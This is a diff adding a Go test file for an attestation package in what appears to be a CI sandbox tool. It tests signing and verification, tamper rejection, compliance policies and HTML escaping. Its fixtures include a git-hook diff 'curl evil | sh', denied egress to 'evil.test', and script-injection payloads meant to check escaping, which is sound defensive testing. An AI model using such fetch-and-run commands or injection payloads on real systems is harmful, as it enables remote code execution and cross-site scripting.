@@ -1,0 +1,289 @@
+package attest
+
+import (
+	"bytes"
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/sigstore/sigstore/pkg/cryptoutils"
+	"github.com/sigstore/sigstore/pkg/signature"
+	_ "github.com/sigstore/sigstore/pkg/signature/kms/fake" // fakekms:// for tests
+)
+
+const commitA = "0123456789abcdef0123456789abcdef01234567"
+
+// predicate returns a realistic predicate of the given size.
+func predicate(execs, decisions, findings int) Predicate {
+	t0 := time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)
+	p := Predicate{
+		Runner:    Runner{AirlockVersion: "v0.1.0", AirlockCommit: "abc", GVisorVersion: "release-20260905", Platform: "systrap", Hostname: "runner-1"},
+		Policy:    Policy{Sources: []PolicySource{{Kind: "org", Path: "/etc/airlock/org.cue", SHA256: strings.Repeat("a", 64)}}, EffectiveSHA256: strings.Repeat("b", 64), Agent: &AgentDecision{Agent: true, Reason: "author Copilot is a bot"}},
+		Job:       Job{Name: "ci", Repository: "https://github.com/acme/app", PullRequest: 7, BaseSHA: strings.Repeat("1", 40), HeadSHA: commitA, Author: "Copilot", Event: "pull_request"},
+		Steps:     []Step{{Name: "test", CommandSHA256: strings.Repeat("c", 64), Status: "passed", Start: t0, End: t0.Add(time.Minute), StdoutSHA256: strings.Repeat("d", 64), StdoutBytes: 100}},
+		Verdict:   Verdict{Passed: true, Reasons: []string{}},
+		Times:     RunTimes{Start: t0, End: t0.Add(time.Minute)},
+		Sandbox:   SandboxRef{ID: "job-1", Network: "egress gateway 198.18.0.1", User: "1000:1000"},
+		Egress:    Egress{Start: t0, Columns: DecisionColumns, Decisions: []json.RawMessage{}, Summary: []EgressSummary{}},
+		Trust:     Trust{Findings: []TrustFinding{}},
+		Processes: Processes{Execs: []Exec{}},
+	}
+	for i := 0; i < execs; i++ {
+		code := 0
+		p.Processes.Execs = append(p.Processes.Execs, Exec{Time: t0.Add(time.Duration(i) * time.Millisecond), PID: int32(i + 2), PPID: int32(i/3 + 1), Binary: "/usr/local/go/pkg/tool/linux_amd64/compile", SHA256: strings.Repeat("e", 64), ArgvSHA256: strings.Repeat("f", 64), Argv: []string{"compile", "-o", fmt.Sprintf("/tmp/go-build/%d/_pkg_.a", i), "-p", "example.com/sample"}, ExitCode: &code})
+	}
+	for i := 0; i < decisions; i++ {
+		d := EgressDecision{Time: t0.Add(time.Duration(i) * 10 * time.Millisecond), PID: 12, Protocol: "tls", Name: fmt.Sprintf("host%d.example.com", i%50), Port: 443, Decision: "allowed", Rule: "allow[0]", Upstream: "142.250.1.1:443", BytesOut: 700, BytesIn: 5000}
+		if i%10 == 0 {
+			d.Decision, d.Rule, d.Reason, d.Name = "denied", "default (deny)", "evil.test is not in egress.allow", "evil.test"
+		}
+		p.Egress.Decisions = append(p.Egress.Decisions, d.row(t0))
+	}
+	if decisions > 0 {
+		p.Egress.Summary = []EgressSummary{{Destination: "evil.test:443", Denied: decisions / 10}, {Destination: "host1.example.com:443", Allowed: decisions - decisions/10}}
+	}
+	for i := 0; i < findings; i++ {
+		p.Trust.Findings = append(p.Trust.Findings, TrustFinding{Phase: "runtime", Category: "git-hooks", Path: fmt.Sprintf(".git/hooks/h%d", i), Kind: "added", Severity: "warning", Action: "readonly", Outcome: "reverted", Reason: "created by the job", DiffSHA256: strings.Repeat("0", 64), Diff: "--- a\n+++ b\n@@ -0,0 +1 @@\n+curl evil | sh\n"})
+	}
+	return p
+}
+
+func statement(t testing.TB, commit string, p Predicate) []byte {
+	t.Helper()
+	st, err := Statement(Subject(Meta{Repository: "https://github.com/acme/app", HeadSHA: commit}, "/ws"), p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return st
+}
+
+// keyFiles writes the kinds of signing keys airlock takes and returns
+// their references with their public keys.
+func keyFiles(t testing.TB) map[string]struct {
+	ref      string
+	password PasswordFunc
+	pub      []byte
+} {
+	t.Helper()
+	dir := t.TempDir()
+	out := map[string]struct {
+		ref      string
+		password PasswordFunc
+		pub      []byte
+	}{}
+	priv, pub, err := GenerateKeyPair(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(dir, "ec.key"), priv, 0o600)
+	out["ecdsa"] = struct {
+		ref      string
+		password PasswordFunc
+		pub      []byte
+	}{filepath.Join(dir, "ec.key"), nil, pub}
+
+	priv, pub, err = GenerateKeyPair([]byte("correct horse"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(dir, "enc.key"), priv, 0o600)
+	os.WriteFile(filepath.Join(dir, "password"), []byte("correct horse\n"), 0o600)
+	out["ecdsa encrypted"] = struct {
+		ref      string
+		password PasswordFunc
+		pub      []byte
+	}{filepath.Join(dir, "enc.key"), PasswordFromEnv("AIRLOCK_TEST_NO_SUCH_VAR", filepath.Join(dir, "password")), pub}
+
+	epub, epriv, _ := ed25519.GenerateKey(rand.Reader)
+	privPEM, _ := cryptoutils.MarshalPrivateKeyToPEM(epriv)
+	pubPEM, _ := cryptoutils.MarshalPublicKeyToPEM(epub)
+	os.WriteFile(filepath.Join(dir, "ed.key"), privPEM, 0o600)
+	out["ed25519"] = struct {
+		ref      string
+		password PasswordFunc
+		pub      []byte
+	}{filepath.Join(dir, "ed.key"), nil, pubPEM}
+	return out
+}
+
+// Every kind of key signs, and the bundle verifies with its public key.
+func TestSignVerifyRoundTrip(t *testing.T) {
+	st := statement(t, commitA, predicate(3, 5, 2))
+	keys := keyFiles(t)
+	for name, k := range keys {
+		t.Run(name, func(t *testing.T) {
+			s, err := LoadSigner(context.Background(), k.ref, k.password)
+			if err != nil {
+				t.Fatal(err)
+			}
+			signed, err := Sign(s, st)
+			if err != nil {
+				t.Fatal(err)
+			}
+			v, err := LoadVerifier(k.pub)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, err := Verify(signed.Bundle, v, VerifyOptions{Commit: commitA})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !bytes.Equal(got.Statement, st) || got.Subject.Digest["gitCommit"] != commitA || len(got.Predicate.Processes.Execs) != 3 {
+				t.Fatalf("verified = %+v", got)
+			}
+			var env struct{ PayloadType, Payload string }
+			json.Unmarshal(signed.Envelope, &env)
+			if p, _ := base64.StdEncoding.DecodeString(env.Payload); env.PayloadType != PayloadType || !bytes.Equal(p, st) {
+				t.Errorf("raw envelope does not carry the stored statement")
+			}
+		})
+	}
+	t.Run("fake KMS", func(t *testing.T) {
+		s, err := LoadSigner(context.Background(), "fakekms://airlock-test", nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		signed, err := Sign(s, st)
+		if err != nil {
+			t.Fatal(err)
+		}
+		pub, _ := s.PublicKey()
+		pubPEM, _ := cryptoutils.MarshalPublicKeyToPEM(pub)
+		v, _ := LoadVerifier(pubPEM)
+		if _, err := Verify(signed.Bundle, v, VerifyOptions{}); err != nil {
+			t.Fatal(err)
+		}
+	})
+	t.Run("encrypted key without password", func(t *testing.T) {
+		_, err := LoadSigner(context.Background(), keys["ecdsa encrypted"].ref, PasswordFromEnv("AIRLOCK_TEST_NO_SUCH_VAR", ""))
+		if err == nil || !strings.Contains(err.Error(), "AIRLOCK_TEST_NO_SUCH_VAR") {
+			t.Fatalf("err = %v", err)
+		}
+	})
+}
+
+// Tampering of every kind is refused with one clear reason, before the
+// payload is trusted.
+func TestVerifyRejects(t *testing.T) {
+	keys := keyFiles(t)
+	k := keys["ecdsa"]
+	s, _ := LoadSigner(context.Background(), k.ref, nil)
+	v, _ := LoadVerifier(k.pub)
+	other, _ := LoadVerifier(keys["ed25519"].pub)
+	good, err := Sign(s, statement(t, commitA, predicate(2, 2, 1)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	edit := func(f func(m map[string]any)) []byte {
+		var m map[string]any
+		json.Unmarshal(good.Bundle, &m)
+		f(m)
+		b, _ := json.Marshal(m)
+		return b
+	}
+	env := func(m map[string]any) map[string]any { return m["dsseEnvelope"].(map[string]any) }
+	flip := func(b64 string) string {
+		b, _ := base64.StdEncoding.DecodeString(b64)
+		b[len(b)/2] ^= 1
+		return base64.StdEncoding.EncodeToString(b)
+	}
+	// A predicate with a field the schema does not have, properly signed.
+	var unknown map[string]any
+	json.Unmarshal(statement(t, commitA, predicate(1, 1, 0)), &unknown)
+	unknown["predicate"].(map[string]any)["extra"] = true
+	unknownStmt, _ := json.Marshal(unknown)
+	withUnknown, _ := Sign(s, unknownStmt)
+	otherSubject, _ := Sign(s, statement(t, strings.Repeat("9", 40), predicate(1, 1, 0)))
+	deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)
+
+	for _, tc := range []struct {
+		name   string
+		bundle []byte
+		v      signature.Verifier
+		commit string
+		want   string
+	}{
+		{"flipped payload byte", edit(func(m map[string]any) { env(m)["payload"] = flip(env(m)["payload"].(string)) }), v, "", "signature"},
+		{"flipped signature byte", edit(func(m map[string]any) {
+			sig := env(m)["signatures"].([]any)[0].(map[string]any)
+			sig["sig"] = flip(sig["sig"].(string))
+		}), v, "", "signature"},
+		{"wrong key", good.Bundle, other, "", "signature"},
+		{"other subject", otherSubject.Bundle, v, commitA, "the subject is commit"},
+		{"two signatures", edit(func(m map[string]any) {
+			sigs := env(m)["signatures"].([]any)
+			env(m)["signatures"] = append(sigs, sigs[0])
+		}), v, "", "2 signatures"},
+		{"payload type swap", edit(func(m map[string]any) { env(m)["payloadType"] = "application/vnd.cncf.notary.payload+json" }), v, "", "payload type"},
+		{"media type", edit(func(m map[string]any) { m["mediaType"] = "application/vnd.dev.sigstore.bundle+json;version=0.1" }), v, "", "media type"},
+		{"huge", append(good.Bundle, bytes.Repeat([]byte(" "), MaxBundleSize)...), v, "", "more than"},
+		{"deeply nested", []byte(deep), v, "", "nested deeper"},
+		{"unknown predicate field", withUnknown.Bundle, v, "", `unknown field "extra"`},
+		{"not JSON", []byte("\x00\x01garbage"), v, "", "not a Sigstore bundle"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			_, err := Verify(tc.bundle, tc.v, VerifyOptions{Commit: tc.commit})
+			if err == nil || !errors.Is(err, ErrNotVerified) || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("err = %v, want one naming %q", err, tc.want)
+			}
+		})
+	}
+	if _, err := LoadVerifier([]byte("-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n")); err == nil {
+		t.Error("a malformed public key was accepted")
+	}
+}
+
+// The compliance policy sees the predicate under "predicate".
+func TestCompliance(t *testing.T) {
+	p := predicate(2, 20, 1)
+	p.Trust.Findings[0].Severity = "error"
+	raw, _ := json.Marshal(p)
+	for _, tc := range []struct {
+		name, policy, want string
+	}{
+		{"passes", `predicate: verdict: passed: true` + "\n" + `predicate: runner: gvisorVersion: >="release-20260101"`, ""},
+		{"no error findings", `predicate: trust: findings: [...{severity: !="error"}]`, "severity"},
+		{"no denials", `predicate: egress: summary: [...{denied: 0}]`, "denied"},
+		{"approved policies", `predicate: policy: effectiveSha256: "` + strings.Repeat("f", 64) + `"`, "effectiveSha256"},
+		{"policy syntax error", `predicate: {`, "policy"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			err := Comply("compliance.cue", []byte(tc.policy), raw)
+			if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
+				t.Fatalf("err = %v, want %q", err, tc.want)
+			}
+		})
+	}
+}
+
+// The HTML report is one page with no external asset, and hostile text
+// from the run is escaped.
+func TestHTMLReport(t *testing.T) {
+	p := predicate(5, 3, 1)
+	p.Steps[0].Name = `<script>alert(1)</script>`
+	p.Trust.Findings[0].Diff = "+<img src=x onerror=alert(1)>"
+	var b bytes.Buffer
+	if err := WriteHTML(&b, &Verified{Predicate: p, Subject: SubjectInfo{Name: "repo"}}, "verified"); err != nil {
+		t.Fatal(err)
+	}
+	page := b.String()
+	for _, bad := range []string{"<script>alert", "<img src=x", "src=\"http", "href=\"http"} {
+		if strings.Contains(page, bad) {
+			t.Errorf("page contains %q", bad)
+		}
+	}
+	for _, want := range []string{"PASSED", "Egress", "Trust findings", "compile"} {
+		if !strings.Contains(page, want) {
+			t.Errorf("page lacks %q", want)
+		}
+	}
+}
